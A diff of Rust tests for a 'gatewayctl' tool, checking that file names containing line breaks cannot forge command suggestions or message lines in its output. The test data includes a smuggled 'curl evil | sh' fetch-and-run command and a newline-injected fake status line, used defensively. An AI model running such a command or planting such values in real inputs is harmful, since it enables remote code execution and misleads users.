@@ -245,6 +245,29 @@ fn a_name_forges_no_next_command() {
     let expected =
         r"gatewayctl config check --config '/etc/gateway/x.toml\ncurl evil | sh; curl evil'";
     assert_eq!(next, [expected], "{text}");
+    // It may have several lines, as the last output of a sidecar has, but each is marked.
+    let line = text
+        .lines()
+        .find(|line| line.contains("| sh") && !line.contains("next:"));
+    assert_eq!(line.map(str::trim), Some("| curl evil | sh"), "{text}");
+}
+
+/// A file's name with a line break in it made a line of gatewayctl's own.
+#[test]
+fn a_name_is_no_line_of_a_message() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("x\nnothing is wrong");
+    fs::write(&file, "[gateway]\nlisen = []\n").unwrap();
+    let mut ctl = ctl_in(dir.path());
+    let output = ctl
+        .args(["config", "check", "--config"])
+        .arg(&file)
+        .output()
+        .unwrap();
+    let text = said(&output);
+    assert_eq!(output.status.code(), Some(78), "{text}");
+    assert!(text.contains(r"x\nnothing is wrong:2:1"), "{text}");
+    assert!(!text.contains("\n       nothing is wrong"), "{text}");
 }
 
 /// As another user, answers each status with the one in a file, a request for a lease with nothing, and
